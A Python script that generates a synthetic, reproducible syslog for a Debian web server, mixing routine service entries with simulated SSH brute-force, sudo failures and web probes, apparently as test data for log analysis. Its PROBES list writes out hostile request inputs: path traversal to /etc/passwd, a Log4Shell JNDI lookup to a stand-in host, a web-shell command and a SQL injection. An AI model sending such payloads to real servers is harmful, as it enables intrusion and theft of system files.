#!/usr/bin/python3
"""hostlog.py [quiet|hot|web] [LINES [SEED]]: a generated log on standard output.

What rsyslog writes into one file on a web server: web requests, mail, cron,
services, the kernel, people who log in and use sudo. quiet: one line of a
hundred is of an attack, as of guesses at sshd, sudo or the web server; hot:
half of them are; web: the requests alone, as nginx writes them into a file of
its own. Made of the formats that Debian 12's programs write; the same
seed gives the same bytes.
"""
import random
import sys
import time

NAMES = ("admin test user oracle postgres ubuntu git guest ftp www deploy "
         "mysql pi backup nagios jenkins hadoop support minecraft steam "
         "ubnt tomcat info dev web es elastic ec2-user centos vagrant").split()
PEOPLE = "alice bob carol dave erin".split()
COMMANDS = ("/usr/bin/apt-get update", "/usr/bin/systemctl restart nginx",
            "/usr/bin/journalctl -u nginx", "/usr/bin/less /var/log/syslog",
            "/usr/bin/vim /etc/nginx/nginx.conf", "/usr/bin/docker ps")
JOBS = ("command -v debian-sa1 > /dev/null && debian-sa1 1 1",
        "cd / && run-parts --report /etc/cron.hourly",
        "/usr/local/bin/backup --quick", "[ -x /usr/lib/php/sessionclean ]")
PAGES = ("/", "/index.html", "/shop/cart", "/api/v1/items?page=2", "/favicon.ico",
         "/static/app.9f2c.js", "/static/site.css", "/img/logo.svg", "/login")
PROBES = ("/wp-login.php", "/.env", "/index.php?page=../../../../etc/passwd",
          "/cgi-bin/.%2e/.%2e/bin/sh", "/?x=${jndi:ldap://198.51.100.9/a}",
          "/shell.php?cmd=cat+/etc/passwd", "/item?id=1'+UNION+SELECT+1,2--")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Safari/604.1",
          "curl/8.7.1", "check_http/v2.3.3 (monitoring-plugins 2.3.3)")
UNITS = (("apt-daily.service", "Daily apt download activities"),
         ("logrotate.service", "Rotate log files"),
         ("fstrim.service", "Discard unused blocks on filesystems"),
         ("sysstat-collect.service", "system activity accounting tool"),
         ("user@1000.service", "User Manager for UID 1000"))
SHARES = {"quiet": 0.01, "hot": 0.5, "web": 0.01}
HOST = "web1"


class Log:
    def __init__(self, kind, lines, seed):
        self.random = random.Random(seed)
        self.share = SHARES[kind]
        self.framed = kind != "web"
        self.left = lines
        self.written = 0
        # A little more than two weeks in all, ending now and never later.
        self.now = 1790000000.0
        self.step = 1300000.0 / lines
        self.second = self.stamp = None
        self.out = sys.stdout.write

    def say(self, program, pid, text):
        if self.left == 0:
            return
        self.left -= 1
        self.written += 1
        self.now += self.random.random() * 2 * self.step
        if int(self.now) != self.second:
            self.second = int(self.now)
            t = time.gmtime(self.second)
            self.stamp = time.strftime("%b ", t) + "%2d" % t.tm_mday + \
                time.strftime(" %H:%M:%S", t)
        tag = f"{program}[{pid}]" if pid else program
        self.out(f"{self.stamp} {HOST} {tag}: {text}\n" if self.framed
                 else f"{text}\n")

    def pid(self):
        return self.random.randrange(400, 4000000)

    def address(self):
        r = self.random.randrange
        return f"{r(1, 224)}.{r(256)}.{r(256)}.{r(1, 255)}"

    def guess_invalid(self):
        pid, port = self.pid(), self.random.randrange(1024, 65536)
        name, ip = self.random.choice(NAMES), self.address()
        pam = f"authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip} "
        self.say("sshd", pid, f"Invalid user {name} from {ip} port {port}")
        self.say("sshd", pid, "pam_unix(sshd:auth): check pass; user unknown")
        self.say("sshd", pid, "pam_unix(sshd:auth): " + pam)
        self.say("sshd", pid, f"Failed password for invalid user {name} from {ip} port {port} ssh2")
        self.say("sshd", pid, f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")
        self.say("sshd", pid, f"Disconnected from invalid user {name} {ip} port {port} [preauth]")

    def guess_root(self):
        pid, port = self.pid(), self.random.randrange(1024, 65536)
        ip = self.address()
        pam = f"authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"
        self.say("sshd", pid, "pam_unix(sshd:auth): " + pam)
        for _ in range(self.random.choice((1, 1, 3))):
            self.say("sshd", pid, f"Failed password for root from {ip} port {port} ssh2")
        self.say("sshd", pid, f"Connection closed by authenticating user root {ip} port {port} [preauth]")

    def knock(self):
        pid, port = self.pid(), self.random.randrange(1024, 65536)
        ip = self.address()
        self.say("sshd", pid, self.random.choice((
            f"Connection closed by {ip} port {port} [preauth]",
            f"banner exchange: Connection from {ip} port {port}: invalid format",
            f"error: kex_exchange_identification: Connection closed by remote host",
            f"Unable to negotiate with {ip} port {port}: no matching host key type found. "
            "Their offer: ssh-rsa [preauth]")))

    def cron(self):
        pid, user = self.pid(), self.random.choice(("root", "www-data"))
        self.say("CRON", pid, f"pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)")
        self.say("CRON", pid + 1, f"({user}) CMD ({self.random.choice(JOBS)})")
        self.say("CRON", pid, f"pam_unix(cron:session): session closed for user {user}")

    def login(self):
        pid, port = self.pid(), self.random.randrange(1024, 65536)
        user, n = self.random.choice(PEOPLE), self.random.randrange(1, 9999)
        ip = f"192.0.2.{self.random.randrange(1, 20)}"
        key = "".join(self.random.choices("ABCDEFabcdef0123456789+/", k=43))
        self.say("sshd", pid, f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{key}")
        self.say("sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)")
        self.say("systemd-logind", 512, f"New session {n} of user {user}.")
        for _ in range(self.random.randrange(4)):
            self.sudo(user)
        self.say("sshd", pid, f"Received disconnect from {ip} port {port}:11: disconnected by user")
        self.say("sshd", pid, f"Disconnected from user {user} {ip} port {port}")
        self.say("sshd", pid, f"pam_unix(sshd:session): session closed for user {user}")
        self.say("systemd-logind", 512, f"Session {n} logged out. Waiting for processes to exit.")
        self.say("systemd-logind", 512, f"Removed session {n}.")

    def sudo(self, user):
        pid, command = self.pid(), self.random.choice(COMMANDS)
        self.say("sudo", pid, f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
        self.say("sudo", pid, f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)")
        self.say("sudo", pid, "pam_unix(sudo:session): session closed for user root")

    def account(self):
        pid, name = self.pid(), self.random.choice(NAMES)
        self.say("groupadd", pid, f"group added to /etc/group: name={name}, GID=1042")
        self.say("useradd", pid + 1, f"new user: name={name}, UID=1042, GID=1042, "
                 f"home=/home/{name}, shell=/bin/bash, from=/dev/pts/0")
        self.say("passwd", pid + 2, f"pam_unix(passwd:chauthtok): password changed for {name}")

    def request(self, path, status):
        t = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(self.now))
        r = self.random
        self.say("nginx", None, f'{self.address()} - - [{t}] "GET {path} HTTP/1.1" '
                 f'{status} {r.randrange(150, 60000)} "-" "{r.choice(AGENTS)}"')

    def page(self):
        for _ in range(self.random.randrange(1, 9)):
            self.request(self.random.choice(PAGES),
                         self.random.choice((200, 200, 200, 304, 404)))

    def probe(self):
        for _ in range(self.random.randrange(1, 5)):
            self.request(self.random.choice(PROBES), 404)

    def unit(self):
        name, what = self.random.choice(UNITS)
        self.say("systemd", 1, f"Starting {name} - {what}...")
        self.say("systemd", 1, f"{name}: Deactivated successfully.")
        self.say("systemd", 1, f"Finished {name} - {what}.")
        self.say("systemd", 1, f"{name}: Consumed 1.{self.random.randrange(999)}s CPU time.")

    def mail(self):
        r, pid = self.random, self.pid()
        queue = f"{r.randrange(1 << 44):011X}"
        self.say("postfix/smtpd", pid, f"connect from mx.example.org[{self.address()}]")
        self.say("postfix/cleanup", pid + 1, f"{queue}: message-id=<{r.randrange(1 << 60):x}@example.org>")
        self.say("postfix/qmgr", 1411, f"{queue}: from=<a@example.org>, size={r.randrange(99999)}, nrcpt=1 (queue active)")
        self.say("postfix/smtp", pid + 2, f"{queue}: to=<b@example.net>, relay=mail.example.net[192.0.2.25]:25, "
                 "delay=0.5, delays=0.1/0/0.2/0.2, dsn=2.0.0, status=sent (250 2.0.0 Ok)")
        self.say("postfix/qmgr", 1411, f"{queue}: removed")

    def kernel(self):
        up, r = self.now - 1780000000, self.random
        self.say("kernel", None, f"[{up:.6f}] " + r.choice((
            f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={self.address()} "
            f"DST=192.0.2.80 LEN=40 TOS=0x00 PREC=0x00 TTL=244 ID=54321 PROTO=TCP SPT={r.randrange(1024, 65536)} "
            "DPT=23 WINDOW=65535 RES=0x00 SYN URGP=0",
            "EXT4-fs (vda1): re-mounted. Quota mode: none.",
            "nf_conntrack: default automatic helper assignment has been turned off",
            "br-5c1f: port 2(veth1a2b3c4) entered forwarding state")))

    def service(self):
        r = self.random
        self.say(*r.choice((
            ("dhclient", 640, f"DHCPREQUEST for 192.0.2.80 on eth0 to 192.0.2.1 port 67"),
            ("dbus-daemon", 511, "[system] Successfully activated service 'org.freedesktop.hostname1'"),
            ("chronyd", 702, "Selected source 192.0.2.123 (ntp.example.net)"),
            ("dockerd", 911, f'time="2026-09-21T10:00:00Z" level=info msg="ignoring event" container={r.randrange(1 << 60):x}'),
            ("named", 820, f"client @0x7f{r.randrange(1 << 36):x} {self.address()}#53412 (www.example.org): query: www.example.org IN A + (192.0.2.53)"),
            ("rsyslogd", 498, 'action \'action-8-builtin:omfwd\' resumed (module \'builtin:omfwd\') [v8.2302.0 try https://www.rsyslog.com/e/2359 ]'))))

    def sudo_wrong(self):
        pid, user = self.pid(), self.random.choice(PEOPLE)
        self.say("sudo", pid, f"pam_unix(sudo:auth): authentication failure; logname={user} uid=1000 euid=0 "
                 f"tty=/dev/pts/1 ruser={user} rhost=  user={user}")
        self.say("sudo", pid, f"{user:>8} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/{user} ; "
                 "USER=root ; COMMAND=/bin/bash")

    def pick(self, kinds):
        return self.random.choices([k for k, _ in kinds], [w for _, w in kinds])[0]

    def write(self):
        routine = ((self.page, 30), (self.mail, 10), (self.unit, 10),
                   (self.cron, 15), (self.kernel, 10), (self.service, 15),
                   (self.login, 2))
        attack = ((self.guess_invalid, 40), (self.guess_root, 25),
                  (self.knock, 15), (self.probe, 10), (self.sudo_wrong, 2),
                  (self.account, 0.05))
        if not self.framed:
            routine, attack = ((self.page, 1),), ((self.probe, 1),)
        bad = 0
        while self.left > 0:
            before, hostile = self.written, bad < self.share * self.written
            self.pick(attack if hostile else routine)()
            bad += (self.written - before) * hostile


if __name__ == "__main__":
    Log(sys.argv[1] if len(sys.argv) > 1 else "quiet",
        int(sys.argv[2]) if len(sys.argv) > 2 else 1000000,
        int(sys.argv[3]) if len(sys.argv) > 3 else 1).write()
